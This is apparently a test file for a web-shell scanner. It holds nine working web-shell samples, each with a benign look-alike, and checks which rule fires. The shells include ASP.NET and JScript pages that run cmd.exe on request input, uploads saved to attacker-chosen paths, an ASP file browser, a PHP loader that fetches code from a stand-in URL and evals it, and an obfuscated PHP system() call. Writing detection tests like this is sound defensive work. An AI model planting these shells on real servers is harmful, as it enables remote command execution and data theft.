import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 29's held-out set U, looked at after its first scan (the figures in docs/scan.md
// are that scan's), each technique written again by us: the set stays outside the project. Beside each,
// code of the same shape that is not a shell.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// [what, the rule that must be among the findings, the verdict, path, the file]
const FLAGGED: [string, string, 'malicious' | 'suspicious', string, string][] = [
  ['an ASP.NET page running cmd.exe with a command of its own and writing its output (recon)', 'mamori_aspx_cmd_output', 'suspicious', '/www/t.aspx', `<%@ Page Language="C#" %>
<% var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c whoami /all") { UseShellExecute = false, RedirectStandardOutput = true };
   var pr = System.Diagnostics.Process.Start(si); Response.Write(pr.StandardOutput.ReadToEnd()); %>`],
  ['an ASP.NET page writing decoded code over itself, compiling it with BuildManager, then putting its text back', 'mamori_aspx_self_rewrite_compile', 'malicious', '/www/s.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Web.Compilation" %>
<%
string me = Request.PhysicalPath, old = File.ReadAllText(me);
string code = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("PCVAIFBhZ2UgJT4="));
File.WriteAllText(me, code);
var page = (Page)BuildManager.CreateInstanceFromVirtualPath(Request.FilePath, typeof(Page));
File.WriteAllText(me, old);
page.ProcessRequest(Context);
%>`],
  ['an ASP.NET page saving the posted file to the path a form field gives whole', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/d.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["blob"]; if (f != null && Request.Form["where"] != null) { f.SaveAs(Request.Form["where"]); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="blob"><input name="where"><button>go</button></form>`],
  ['the same with the path held in a variable first (the flow layer writes it in)', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/d2.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) { string target = Request.QueryString["to"]; if (Request.Files.Count > 0) Request.Files[0].SaveAs(target); }
</script>`],
  ['a classic ASP file browser: the drives listed, any folder of the query string, any file sent', 'mamori_asp_fso_drive_browser', 'malicious', '/www/b.asp', `<%
Set fs = CreateObject("Scripting.FileSystemObject")
If Request.QueryString("get") <> "" Then
  Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.LoadFromFile Request.QueryString("get")
  Response.BinaryWrite st.Read : Response.End
End If
For Each dv In fs.Drives : Response.Write dv.DriveLetter & ":\\ " : Next
dir = Request.QueryString("dir") : If dir = "" Then dir = Server.MapPath(".")
For Each f In fs.GetFolder(dir).Files : Response.Write "<a href='?get=" & Server.URLEncode(f.Path) & "'>" & f.Name & "</a><br>" : Next
%>`],
  ['a page carrying the name of a public planting kit (Laudanum)', 'mamori_web_laudanum_kit', 'malicious', '/www/x.jsp', `<%-- Laudanum Project: A Collection of Injectable Files used during a Penetration Test --%>
<%@ page import="java.io.*" %><% out.print("ready"); %>`],
  ['a small PHP file fetching code from a URL and running it as a page', 'mamori_php_remote_code_eval', 'malicious', '/www/l.php', `<?php
$src = 'https://files.example.invalid/pack/a.txt';
$body = @file_get_contents($src);
if (!$body && function_exists('curl_init')) { $c = curl_init($src); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $body = curl_exec($c); }
if (strlen($body) > 0) eval('?>' . $body);`],
  ['a PHP command function called by a name joined from an array of escaped characters', 'mamori_php_joined_name_call', 'malicious', '/www/v.php', `<?php
$parts = array("\\x73", "\\x79", "\\x73", "\\x74", "\\x65", "\\x6d");
implode('', $parts)($_GET['q']);`],
  ['a JScript page running WScript.Shell\'s Exec of Request.Params and writing its output', 'mamori_asp_wscript_shell', 'malicious', '/www/c.aspx', `<script language="JScript" runat="server">
function Page_Load() { var sh = new ActiveXObject("WScript.Shell"); Response.Write(sh.Exec("cmd /c " + Request.Params["q"]).StdOut.ReadAll()); }
</script>`],
];

// [what, path, the file]: the same shapes, not shells.
const BENIGN: [string, string, string][] = [
  ['an ASP.NET status page running ping.exe and writing its output', '/www/admin/ping.aspx', `<%@ Page Language="C#" %>
<% var si = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 1 db.internal") { UseShellExecute = false, RedirectStandardOutput = true };
   var pr = System.Diagnostics.Process.Start(si); Response.Write(Server.HtmlEncode(pr.StandardOutput.ReadToEnd())); %>`],
  ['an ASP.NET page compiling a page of its own by virtual path (no file written)', '/www/host.aspx', `<%@ Page Language="C#" %>
<% var p = (Page)System.Web.Compilation.BuildManager.CreateInstanceFromVirtualPath("~/parts/menu.aspx", typeof(Page)); p.ProcessRequest(Context); %>`],
  ['an upload saved under a name of its own in its own folder', '/www/upload.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["doc"]; if (f != null) f.SaveAs(Server.MapPath("~/App_Data/in/") + Guid.NewGuid().ToString("N") + ".pdf"); %>`],
  ['a classic ASP page listing the files of its own folder', '/www/list.asp', `<%
Set fs = CreateObject("Scripting.FileSystemObject")
For Each f In fs.GetFolder(Server.MapPath("docs")).Files : Response.Write f.Name & "<br>" : Next
%>`],
  ['a template engine running its compiled templates with eval(\'?>\'), a link in its docblock', '/www/lib/Tpl.php', `<?php
/** A small template engine. See 'https://example.invalid/docs' for the syntax. */
class Tpl {
  const HOME = 'https://example.invalid/';
  public function render(string $file, array $vars): string {
    $compiled = $this->compile(file_get_contents($file));
    extract($vars); ob_start(); eval('?>' . $compiled); return ob_get_clean();
  }
  private function compile(string $t): string { return preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $t); }
}`],
  ['PHP joining pieces into a string that is not called', '/www/csv.php', `<?php
$cells = array('a', 'b', 'c');
echo implode('', $cells) . "\\n";`],
];

describe('scan: held-out set U (session 29), its misses, samples of our own', () => {
  for (const [name, rule, verdict, path, src] of FLAGGED) {
    it(`${verdict}: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, verdict, JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`clean: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'clean', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(FLAGGED.length, 9);
    assert.equal(BENIGN.length, 6);
  });
});
